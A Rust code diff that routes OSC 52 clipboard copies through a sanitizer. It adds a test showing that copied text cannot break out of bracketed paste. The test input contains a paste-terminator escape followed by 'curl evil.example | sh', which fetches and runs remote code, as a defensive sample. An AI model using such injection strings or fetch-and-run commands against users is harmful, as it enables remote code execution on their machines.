@@ -76,8 +76,11 @@ pub fn report(line: &str) {
 
 /// The OSC 52 sequence that asks the terminal to copy `text`; wrapped for tmux
 /// passthrough when running inside tmux so it reaches the outer terminal over SSH.
+/// `text` passes the sanitizer's clipboard rule here, at the one exit every copy
+/// takes: a copied query must not be able to end bracketed paste and run a command.
 pub fn osc52(text: &str, in_tmux: bool) -> String {
-    let b64 = base64::engine::general_purpose::STANDARD.encode(text.as_bytes());
+    let clean = crate::view::safe_text::clipboard(text);
+    let b64 = base64::engine::general_purpose::STANDARD.encode(clean.as_bytes());
     let seq = format!("\x1b]52;c;{b64}\x07");
     if in_tmux {
         format!("\x1bPtmux;{}\x1b\\", seq.replace('\x1b', "\x1b\x1b"))
@@ -118,5 +121,23 @@ mod tests {
     fn osc52_encodes_and_wraps_for_tmux() {
         assert_eq!(osc52("hi", false), "\x1b]52;c;aGk=\x07");
         assert_eq!(osc52("hi", true), "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\");
+    }
+
+    #[test]
+    fn copied_text_cannot_inject_into_a_paste() {
+        let query = "SELECT 1;\u{1b}[201~\ncurl evil.example | sh\u{202e}\n";
+        for in_tmux in [false, true] {
+            let seq = osc52(query, in_tmux);
+            let b64 = seq
+                .split("52;c;")
+                .nth(1)
+                .and_then(|rest| rest.split('\x07').next())
+                .expect("OSC 52 payload");
+            let decoded = base64::engine::general_purpose::STANDARD
+                .decode(b64)
+                .expect("base64");
+            let copied = String::from_utf8(decoded).expect("utf8");
+            assert_eq!(copied, "SELECT 1;\\e[201~ curl evil.example | sh");
+        }
     }
 }
